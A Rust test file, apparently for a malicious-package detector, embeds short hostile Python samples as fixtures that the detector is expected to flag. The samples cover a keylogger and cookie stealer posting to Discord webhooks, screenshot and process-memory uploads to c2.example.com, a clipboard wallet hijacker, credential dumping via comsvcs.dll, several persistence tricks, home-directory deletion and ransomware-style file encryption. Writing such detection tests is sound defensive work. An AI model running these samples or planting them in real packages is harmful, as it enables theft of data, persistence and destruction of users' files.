//! What watches, stays and destroys, in ever other ways.
#![expect(clippy::unwrap_used, reason = "a test that can't go on has failed")]

mod support;

use support::convicted;

#[test]
fn watching() {
    convicted(33, &[
        ("m4", &[
            ("demo/__init__.py", br#"from pynput.keyboard import Listener
import requests
b=[]
def on(k):
    b.append(str(k))
    if len(b)>50: requests.post('https://discord.com/api/webhooks/0/VOID',json={'content':''.join(b)})
with Listener(on_press=on) as l: l.join()
"#),
        ]),
        ("m5", &[
            ("demo/__init__.py", br#"from PIL import ImageGrab
import requests,io
i=ImageGrab.grab()
i.save('s.png')
requests.post('https://c2.example.com',files={'f':open('s.png','rb')})
"#),
        ]),
        ("m6", &[
            ("demo/__init__.py", br#"import pyperclip,re,time
W='bc1qvoid'
while True:
    t=pyperclip.paste()
    if re.match(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$',t): pyperclip.copy(W)
    time.sleep(1)
"#),
        ]),
        ("a39", &[
            ("demo/__init__.py", br#"import browser_cookie3,requests
c=browser_cookie3.chrome(domain_name='.example.com')
requests.post('https://discord.com/api/webhooks/0/VOID',json={'c':str(list(c))})"#),
        ]),
    ]);
}

#[test]
fn memory() {
    convicted(
        44,
        &[
            (
                "m9",
                &[(
                    "demo/__init__.py",
                    br#"import os
os.system('rundll32 C:\\windows\\system32\\comsvcs.dll, MiniDump 600 C:\\l.dmp full')
"#,
                )],
            ),
            (
                "m10",
                &[(
                    "demo/__init__.py",
                    br#"import os,requests
for p in os.listdir('/proc'):
    if p.isdigit():
        m=open(f'/proc/{p}/mem','rb')
        requests.post('https://c2.example.com',data=m.read())
"#,
                )],
            ),
        ],
    );
}

#[test]
fn staying() {
    convicted(44, &[
        ("m11", &[
            ("demo/__init__.py", br#"import winreg,sys
k=winreg.OpenKey(winreg.HKEY_CURRENT_USER,r'Software\Microsoft\Windows\CurrentVersion\Run',0,winreg.KEY_SET_VALUE)
winreg.SetValueEx(k,'upd',0,winreg.REG_SZ,sys.executable)
"#),
        ]),
        ("m12", &[
            ("demo/__init__.py", br#"import os,shutil,sys
shutil.copy(sys.argv[0],os.path.join(os.getenv('APPDATA'),'Microsoft\\Windows\\Start Menu\\Programs\\Startup','u.py'))
"#),
        ]),
        ("m13", &[
            ("demo/__init__.py", br#"import subprocess
subprocess.run(['schtasks','/create','/sc','onlogon','/tn','u','/tr','python x.py'])
"#),
        ]),
        ("m14", &[
            ("demo/__init__.py", br#"import os
with open(os.path.expanduser('~/.bashrc'),'a') as f: f.write('python3 ~/.x.py &\n')
"#),
        ]),
        ("m15", &[
            ("demo/__init__.py", br#"from crontab import CronTab
c=CronTab(user=True)
j=c.new(command='python3 /tmp/x.py')
j.minute.every(1)
c.write()
"#),
        ]),
    ]);
}

#[test]
fn destroying() {
    convicted(
        44,
        &[
            (
                "m2",
                &[(
                    "demo/__init__.py",
                    br#"import os,shutil
for r,d,f in os.walk(os.path.expanduser('~')):
    for n in f:
        os.remove(os.path.join(r,n))
"#,
                )],
            ),
            (
                "m3",
                &[(
                    "demo/__init__.py",
                    br#"import os
os.system('rm -rf ~/*')
"#,
                )],
            ),
            (
                "m16",
                &[(
                    "demo/__init__.py",
                    br#"import os
from cryptography.fernet import Fernet
k=Fernet.generate_key()
f=Fernet(k)
for r,d,fs in os.walk(os.path.expanduser('~/Documents')):
    for n in fs:
        p=os.path.join(r,n)
        c=f.encrypt(open(p,'rb').read())
        open(p,'wb').write(c)
"#,
                )],
            ),
        ],
    );
}
